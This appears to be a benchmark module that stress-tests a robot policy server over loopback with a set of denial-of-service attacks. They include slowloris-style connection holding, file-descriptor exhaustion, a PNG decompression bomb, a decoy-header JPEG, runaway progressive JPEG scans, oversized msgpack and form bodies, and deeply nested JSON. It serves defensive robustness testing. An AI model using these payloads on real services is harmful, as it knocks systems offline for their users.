"""What a hostile neighbour of a robot does to the policy server, over loopback; every attack ends by itself.

Each is a generator of small pieces of work: `benchmarks/server/attacks.py` runs them side by side for a while.
"""

from __future__ import annotations

import json
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace

import cv2
import httpx
import numpy as np

from robots.embodiment import Embodiment
from robots.embodiments.stretch_re1 import STRETCH_RE1

Attack = Callable[[str], Iterator[None]]
MSGPACK = {"Content-Type": "application/msgpack"}
JSON = {"Content-Type": "application/json"}
SILENT = 1100  # connections, beyond the usual limit of 1,024 open files
HEAD = b"POST /v1/sessions HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"


def place(url: str) -> tuple[str, int]:
    """(host, port) of a server."""
    found = httpx.URL(url)
    return found.host, found.port or 80


def hold(most: int, sent: bytes, then: bytes = b"") -> Attack:
    """`most` connections that send `sent` and then one byte of `then` now and again; who is closed comes back."""

    def attack(url: str) -> Iterator[None]:
        held: list[socket.socket] = []
        count = most
        try:
            while True:
                while len(held) < count:
                    held.append(socket.create_connection(place(url), timeout=5))
                    held[-1].setblocking(False)
                    held[-1].send(sent) if sent else None
                    if len(held) % 50 == 0:
                        yield
                held = [one for one in held if _goes_on(one, then)]
                count = min(most, len(held) + 50)  # whoever was closed comes back, 250 in a second
                yield
                time.sleep(0.2)
        finally:
            for one in held:
                one.close()

    return attack


def _goes_on(connection: socket.socket, then: bytes) -> bool:
    try:
        if then:
            connection.send(then)
        return bool(connection.recv(65536))
    except BlockingIOError:
        return True
    except OSError:
        connection.close()
        return False


def post(body: bytes, headers: dict[str, str], path: str = "/v1/sessions") -> Attack:
    """Sends one body again and again."""

    def attack(url: str) -> Iterator[None]:
        with httpx.Client(base_url=url, timeout=60, trust_env=False) as http:
            while True:
                try_(lambda: http.post(path, content=body, headers=headers))
                yield

    return attack


def act(size: tuple[int, int], body: Callable[[], bytes]) -> Attack:
    """Opens a session whose cameras have `size` and sends `body` as its observation again and again."""

    def attack(url: str) -> Iterator[None]:
        content = body()
        with httpx.Client(base_url=url, timeout=60, trust_env=False) as http:
            while True:
                path = session(http, size)
                for _ in range(20):
                    try_(lambda: http.post(f"{path}/act", content=content, headers=MSGPACK))  # noqa: B023
                    yield
                try_(lambda: http.delete(path))  # noqa: B023

    return attack


def open_and_leave(url: str) -> Iterator[None]:
    """Opens sessions and never comes back."""
    with httpx.Client(base_url=url, timeout=60, trust_env=False) as http:
        while True:
            session(http, (84, 144))
            yield


def session(http: httpx.Client, size: tuple[int, int]) -> str:
    """The path of a new session of a body whose cameras have `size`; of none, when the server refuses."""
    content = json.dumps({"embodiment": body_of(size).to_json(), "instruction": "find a mug"})
    try:
        reply = http.post("/v1/sessions", content=content, headers=JSON)
    except httpx.HTTPError:
        return "/v1/sessions/none"
    return f"/v1/sessions/{reply.json().get('session_id', 'none')}" if reply.status_code == 201 else "/v1/sessions/none"


def body_of(size: tuple[int, int]) -> Embodiment:
    """A Stretch whose cameras have `size`."""
    height, width = size
    return STRETCH_RE1.with_cameras(*(replace(one, height=height, width=width) for one in STRETCH_RE1.cameras))


def try_(call: Callable[[], object]) -> None:
    """An attacker does not care what became of it."""
    try:
        call()
    except httpx.HTTPError:
        return


def observation(image: bytes) -> bytes:
    """A message with `image` of both cameras."""
    import msgpack

    images = dict.fromkeys(("navigation", "manipulation"), image)
    packed: bytes = msgpack.packb({"stamp_ns": 1, "images": images, "state": {"hand": [0.0]}, "step": 0})
    return packed


def decoy_jpeg() -> bytes:
    """58 kB that one reader takes for 84 x 144 pixels and another for 30000 x 30000."""
    decoy = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", 84, 144) + b"\x03" + bytes(9)
    comment = bytearray(0xE000 + 64)
    comment[0xDFFC : 0xDFFC + len(decoy)] = decoy
    _, small = cv2.imencode(".jpg", np.zeros((16, 16, 3), np.uint8))
    real = bytearray(small.tobytes())
    at = real.index(b"\xff\xc0")
    real[at + 5 : at + 9] = struct.pack(">HH", 30_000, 30_000)
    head = b"\xff\xd8\xff\xff\xe0\x00\x02\xff\xfe" + struct.pack(">H", len(comment) + 2)
    return head + bytes(comment) + bytes(real[2:])


def inflating_png(size: tuple[int, int], inflated: int = 6 * 2**30) -> bytes:
    """A PNG of `size` whose 6 MB of pixels unpack to `inflated` bytes."""
    packer, piece = zlib.compressobj(9), bytes(2**24)
    first = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)  # the same bytes each time
    pixels = first + again * (inflated // len(piece) - 1) + packer.flush()
    header = struct.pack(">IIBBBBB", size[1], size[0], 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", pixels), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def progressive_jpeg(size: tuple[int, int], scans: int) -> bytes:
    """A progressive JPEG whose last scan comes `scans` times more."""
    image = np.random.default_rng(0).integers(0, 256, (*size, 3), dtype=np.uint8)
    _, encoded = cv2.imencode(".jpg", image, [cv2.IMWRITE_JPEG_PROGRESSIVE, 1, cv2.IMWRITE_JPEG_QUALITY, 60])
    data = encoded.tobytes()
    last = data.rindex(b"\xff\xda")
    again = min(scans, 7_000_000 // (len(data) - 2 - last))
    return data[:-2] + data[last:-2] * again + b"\xff\xd9"


INTEGERS = b"\x81\xa5state\x81\xa4hand\xdd" + struct.pack(">I", 15 * 2**20) + bytes(15 * 2**20)
LISTS = b"\x81\xa5state\xdc\x10\x00" + (b"\xdc\x0f\xff" + b"\x90" * 4095) * 3900
FORM = {"Content-Type": "multipart/form-data; boundary=x"}
FORM_BODY = b"--x" + b"\r\n-" * 5_000_000
ATTACKS: dict[str, list[Attack]] = {
    "none": [],
    f"{SILENT} silent connections": [hold(SILENT, b"")],
    "500 slow heads": [hold(500, b"GET / HTTP/1.1\r\nX-A: ", b"a")],
    "500 slow bodies": [hold(500, HEAD + b"Content-Length: 200000\r\n\r\n{", b" ")],
    "2 x 15 MiB of integers, no session": [post(INTEGERS, MSGPACK, "/v1/sessions/nobody/act")] * 2,
    "2 x 15 MiB of integers": [act((84, 144), lambda: INTEGERS)] * 2,
    "2 x 15 MiB of empty lists": [act((84, 144), lambda: LISTS)] * 2,
    "2 x 15 MiB of form": [post(FORM_BODY, FORM, "/v1/sessions/nobody/act")] * 2,
    "2 x JPEG with a decoy": [act((84, 144), lambda: observation(decoy_jpeg()))] * 2,
    "2 x PNG that inflates": [act((720, 1280), lambda: observation(inflating_png((720, 1280))))] * 2,
    "2 x JPEG of many scans": [act((720, 1280), lambda: observation(progressive_jpeg((720, 1280), 500)))] * 2,
    "2 x JPEG of 10 scans, 3.7 MP": [act((1440, 2560), lambda: observation(progressive_jpeg((1440, 2560), 0)))] * 2,
    "2 x deep JSON": [post(b"[" * 200_000, JSON)] * 2,
    "2 x 256 kB body description": [post(json.dumps({"embodiment": {"a": [[0]] * 40_000}}).encode(), JSON)] * 2,
    "2 x sessions opened and left": [open_and_leave] * 2,
    "4 x garbage instead of HTTP": [hold(20, b"\x16\x03\x01\r\n\r\n")] * 4,
}
